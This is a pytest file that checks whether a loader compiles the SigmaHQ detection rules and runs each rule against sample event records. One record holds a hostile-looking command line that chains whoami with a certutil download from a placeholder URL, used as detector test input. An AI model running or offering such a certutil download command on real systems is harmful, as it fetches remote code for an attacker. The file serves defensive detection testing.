"""The whole SigmaHQ rule set goes through the loader: each rule compiles or has a reason."""

from __future__ import annotations

from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from detector.rules import load_rules

SIGMAHQ = Path(__file__).parents[2] / ".." / "shared" / "sigmahq"

RECORDS: list[dict[str, Any]] = [
    {},
    {"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec"}},
    {"action": "repo.destroy", "actor": "alice", "org": "acme", "created_at": 1718492829000},
    {
        "EventID": 4688,
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "cmd.exe /c whoami /all && certutil -urlcache -f http://x",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "User": "CORP\\alice",
        "DestinationIp": "10.1.2.3",
    },
    {"Image": ["a", None, 3, {"b": True}], "CommandLine": None, "EventID": "4688", "x": [[]]},
]


@pytest.mark.shared
def test_every_sigmahq_rule_compiles_or_has_a_reason(capsys: pytest.CaptureFixture[str]) -> None:
    if not SIGMAHQ.is_dir():
        pytest.skip(f"the SigmaHQ rule set is not at {SIGMAHQ.resolve()} (../shared absent)")
    files = [p for p in SIGMAHQ.rglob("*") if p.suffix in (".yml", ".yaml")]

    result = load_rules([SIGMAHQ])

    assert all(error.reason for error in result.errors)
    assert [e for e in result.errors if e.kind == "internal"] == []
    loaded = len(result.rules) + len(result.correlations) + len(result.filters)
    assert loaded + len(result.errors) >= len(files)
    assert len(result.rules) >= 0.99 * len(files)
    for rule in result.rules:  # no rule raises on odd but valid JSON
        for record in RECORDS:
            assert rule.matches(record) in (True, False)

    reasons = Counter(f"{e.kind}: {e.reason}" for e in result.errors)
    with capsys.disabled():
        print(
            f"\nSigmaHQ: {len(files)} files, {len(result.rules)} rules compiled, "
            f"{len(result.correlations)} correlations, {len(result.filters)} filters, "
            f"{len(result.errors)} rejected"
        )
        for reason, count in reasons.most_common():
            print(f"  {count:4d}  {reason}")
